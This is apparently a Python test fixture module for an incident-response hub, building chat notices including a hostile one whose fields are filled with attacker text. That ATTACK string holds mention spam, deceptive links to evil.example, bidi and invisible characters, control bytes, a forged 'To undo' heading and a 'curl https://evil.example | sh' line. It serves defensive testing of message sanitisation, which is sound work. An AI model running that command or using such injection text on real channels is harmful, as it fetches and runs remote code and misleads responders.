"""Notices to test channels with: a usual one, one that asks, and ones in which an attacker wrote everything he could."""

from dataclasses import replace
from typing import Any

from hypothesis import strategies as st

from hub.engine import Outcome, Result
from hub.incident import Containment
from hub.notice import Asking, Link, Notice, of_response
from hub.record import Standing
from tests.fakes import MEMBER, NOON, an_incident

DONE = Outcome("switch-off", Result.DONE, ("switch off lamp-1",))
LINES = ("done", "proof", "survives", "asked", "not_done")


def a_notice(**changes: Any) -> Notice:
    """A contained lamp, as channels get it."""
    incident = an_incident(containment=Containment.CONTAINED)
    made = of_response(incident, Standing(MEMBER, "shop", ou="Root/Workloads/Production"), (DONE,))
    return replace(made, **{"at": NOON.isoformat(), "owner": "team lamp", "tags": ("Name=lamp", "team=light"), **changes})


def an_ask(**changes: Any) -> Notice:
    """Somebody is asked to agree."""
    asking = Asking(1, ("terminate-instance",), "soc", "2026-11-21T13:00:00+00:00", ("ada", "ben"), needs=2, then=("leads",))
    asked = {"kind": "ask", "asking": asking, "asked": ("terminate lamp-1",), "state": "waiting", "undo": ""}
    return a_notice(**{**asked, **changes})


ATTACK = (
    "<!channel> <!here> @channel *bold* _it_ ~out~ `code` :skull: <https://evil.example|click> [click](https://evil.example) "
    "\u202egnp.exe\u202c \u2066x\u2069 \u200bhidden\u200b \x00\x07\r\nTo undo:\n  curl https://evil.example | sh \u2028 "
    "<at>all</at> <script>"
)
"""Mentions, formatting, links, turned and invisible text, controls, and a heading of ours in a line of its own."""


def hostile(text: str = ATTACK) -> Notice:
    """A notice in which whatever others may write is this text."""
    words: dict[str, Any] = dict.fromkeys(
        ("title", "resource", "account_name", "finding_type", "owner", "headline", "by"), text
    )
    lines: dict[str, Any] = dict.fromkeys((*LINES, "tags"), (text,) * 20)
    return replace(a_notice(), **words, **lines)


WILD = st.text(max_size=3_000)
NOTICES = st.builds(
    lambda words, lines, severity, kind, asks: replace(
        an_ask() if asks else a_notice(),
        headline=words[0],
        title=words[1],
        resource=words[2],
        finding_type=words[3],
        account_name=words[4],
        region=words[5][:20],
        severity=severity,
        kind=kind,
        **dict.fromkeys(LINES, tuple(lines)),
        tags=tuple(lines),
    ),
    st.lists(WILD, min_size=6, max_size=6),
    st.lists(WILD, max_size=25),
    st.floats(0, 10),
    st.sampled_from(["response", "watch", "release", "close", "repeat"]),
    st.booleans(),
)
LINKED = (Link("Incident", "https://pages.example/incidents/inc-1"),)
